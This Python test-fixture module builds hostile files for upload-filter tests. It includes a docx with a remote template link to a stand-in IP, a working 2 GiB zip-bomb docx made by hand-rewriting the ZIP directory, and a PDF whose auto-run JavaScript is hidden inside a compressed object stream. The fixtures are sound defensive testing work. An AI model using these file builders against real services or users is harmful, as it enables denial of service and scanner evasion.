"""Real hostile and harmless files, built byte by byte for the upload tests (issue 12)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
from PIL import Image
from reportlab.pdfgen import canvas

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_bytes(text: str = "Báo cáo thành tích") -> bytes:
    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph(text)
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["Mã đơn vị", "Điểm"])
    book.active.append(["Xã A", 93])
    book.save(buffer)
    return buffer.getvalue()


def pdf_bytes() -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "Bao cao thanh tich")
    page.showPage()
    page.save()
    return buffer.getvalue()


def image_bytes(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, kind)
    return buffer.getvalue()


def with_members(package: bytes, members: dict[str, bytes], replace: bool = False) -> bytes:
    """``package`` (a real docx/xlsx) with ``members`` added (or replacing ones of that name)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if replace and info.filename in members:
                continue
            dst.writestr(info, src.read(info))
        for name, data in members.items():
            dst.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def rels(*relationships: tuple[str, str, str | None]) -> bytes:
    lines = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relationships, start=100)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{lines}</Relationships>"
    ).encode()


def remote_template_docx() -> bytes:
    return with_members(
        docx_bytes(),
        {
            "word/_rels/settings.xml.rels": rels(
                ("attachedTemplate", "http://203.0.113.9/mau.dotm", "External")
            )
        },
    )


def zip_bomb_docx(inflated: int = 2 * 1024**3) -> bytes:
    """A docx with one member of ``inflated`` zero bytes (2 GiB → about 2 MB on disk).

    The deflate stream is one fully flushed 16 MiB block repeated (each such block
    compresses to the same bytes), so building it costs a CRC, not 2 GiB of deflating."""
    block = b"\x00" * (16 * 1024 * 1024)
    assert inflated % len(block) == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = inflated // len(block)
    data = piece * count + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    name = b"word/media/image1.png"
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
    package = out.getvalue()
    # Append the member by hand: local header + data, then rewrite the central directory.
    end = package.rindex(b"PK\x05\x06")
    entries, cd_size, cd_offset = struct.unpack("<HII", package[end + 10 : end + 20])
    central = package[cd_offset : cd_offset + cd_size]
    offset = cd_offset
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, crc, len(data), inflated)
    local = b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name
    entry = (
        b"PK\x01\x02"
        + struct.pack("<H", 20)
        + fields
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, offset)
        + name
    )
    new_central = central + entry
    new_offset = offset + len(local) + len(data)
    tail = b"PK\x05\x06" + struct.pack(
        "<HHHHIIH", 0, 0, entries + 1, entries + 1, len(new_central), new_offset, 0
    )
    return package[:cd_offset] + local + data + new_central + tail


def pdf_with(objects: list[bytes], root: int = 1) -> bytes:
    """A well-formed PDF of ``objects`` (object n is objects[n-1]) with a real xref table."""
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(body)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        body += f"{offset:010d} 00000 n \n".encode()
    body += f"trailer\n<</Size {len(objects) + 1}/Root {root} 0 R>>\n".encode()
    body += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(body)


PAGES = [
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
]


def pdf_open_action(action: bytes) -> bytes:
    return pdf_with([b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", *PAGES, action])


def pdf_script_in_object_stream() -> bytes:
    """The catalog's /OpenAction is object 4, which lives compressed in object stream 5, found
    through a cross-reference stream: nothing of it is visible in the raw bytes."""
    hidden = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    header = b"4 0 "
    packed = zlib.compress(header + hidden)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        *PAGES,
        None,  # object 4: compressed in object 5
        b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    ]
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, obj in enumerate(objects, start=1):
        if obj is None:
            continue
        offsets[number] = len(body)
        body += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref_at = len(body)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"
    for number in range(1, 7):
        if number == 4:
            rows += b"\x02" + (5).to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number == 6:
            rows += b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
    packed_rows = zlib.compress(rows)
    body += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n" % len(packed_rows) + packed_rows + b"\nendstream\nendobj\n"
    )
    body += f"startxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(body)


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    jpeg = image_bytes("JPEG")
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return jpeg[:2] + segment + jpeg[2:]


def png_with_text(text: bytes) -> bytes:
    png = image_bytes("PNG")
    data = b"Comment\x00" + text
    chunk = len(data).to_bytes(4, "big") + b"tEXt" + data
    chunk += zlib.crc32(b"tEXt" + data).to_bytes(4, "big")
    return png[:33] + chunk + png[33:]  # after the 8-byte signature and the IHDR chunk
